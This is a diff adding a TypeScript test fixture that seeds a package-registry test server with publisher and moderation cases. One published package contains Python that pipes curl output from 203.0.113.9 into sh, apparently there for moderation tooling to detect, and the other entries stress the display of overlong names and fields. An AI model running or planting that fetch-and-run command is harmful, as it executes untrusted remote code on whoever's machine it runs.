@@ -1,0 +1,20 @@
+import { type Publisher, publishFiles } from '../build.ts';
+import { enqueueJob } from '../enqueue-job.ts';
+import type { TestServer } from '../start-server.ts';
+
+const shell = "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n";
+const long = 'a-node-whose-id-is-as-long-as-anyone-would-ever-want-to-type-it-by-hand';
+
+/** Adds what those who publish and moderate meet to a server that `fillSite` filled. */
+export const fillDesk = async (server: TestServer, ada: Publisher): Promise<void> => {
+  await publishFiles(server, ada, 'line-art', '1.0.0', { 'run.py': shell, 'tools/fetch.py': shell });
+  await publishFiles(server, ada, long, '1.0.0-beta.20260107', { '__init__.py': '' });
+  await ada.owner.put(`/publishers/${ada.id}/nodes/${long}`, {
+    name: 'WordsThatNobodyBreaks'.repeat(4),
+    description: 'Supercalifragilistic/'.repeat(30),
+    author: 'x'.repeat(80),
+    tags: ['a-tag-of-some-length', 'y'.repeat(60)],
+    repository: `https://example.org/${'path/'.repeat(30)}`,
+  });
+  await enqueueJob(server);
+};
